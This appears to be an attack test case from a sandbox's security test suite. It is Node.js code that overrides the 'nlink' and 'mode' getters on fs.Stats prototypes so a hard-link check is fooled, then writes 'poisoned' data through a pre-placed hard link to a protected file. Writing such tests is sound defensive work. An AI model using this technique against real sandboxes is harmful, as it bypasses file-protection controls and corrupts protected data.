/* @attack {"title": "an nlink (then a mode) accessor on the Stats prototypes swallows the constructor's own value and answers 1, so the hard-link check lets a write through a pre-placed hard link of the lakehouse", "setup": ["hardlink-to-lakehouse"]} */
import fs from 'node:fs';

const run = process.env.SLEEVE_RUN_DIR;
for (let i = 0; i < 400 && !fs.existsSync(`${run}/.ready`); i++) await new Promise((r) => setTimeout(r, 25));
const protos = [fs.Stats.prototype, Object.getPrototypeOf(fs.lstatSync(run, { bigint: true }))];
// Assigning `this.nlink = n` in the constructor calls this setter: no own property is made.
for (const proto of protos) Object.defineProperty(proto, 'nlink', { configurable: true, get: () => 1, set() {} });
const attempt = (label) => {
  try {
    fs.writeFileSync(`${run}/hard.csv`, `poisoned through a lying ${label}\n`);
    console.log(`${label}: written`);
  } catch (error) {
    console.log(`${label}: ${error.code}`);
  }
};
attempt('nlink accessor');
// The variant against a defence that reads the mode bits: the mode says "directory" (not a file).
for (const proto of protos) Object.defineProperty(proto, 'mode', { configurable: true, get: () => 0o040755, set() {} });
attempt('nlink and mode accessors');
fs.rmSync(`${run}/hard.csv`, { force: true });
